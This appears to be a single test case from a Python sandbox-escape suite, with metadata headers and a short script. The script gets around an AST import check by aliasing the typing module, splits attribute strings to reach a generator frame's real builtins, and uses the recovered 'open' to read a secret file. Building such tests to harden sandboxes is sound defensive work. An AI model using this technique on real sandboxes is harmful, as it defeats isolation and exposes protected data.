# id: in09-generator-frame
# category: introspection
# effect: a generator's gi_frame (attrgetter) -> f_builtins / f_globals -> the real builtins
# touches_os: yes
# destructive: no
# fast: no
import typing
t = typing            # an alias: the AST policy only checks names bound by import
mods = t.sys.modules
ag = t.operator.attrgetter
def gen():
    yield 1
g = gen()
fb = ag("gi_" + "frame.f_" + "builtins")(g)
real = fb.get("open") or mods["builtins"]
op = real if callable(real) else ag("op" + "en")(real)
print(op("{SECRET}").read())
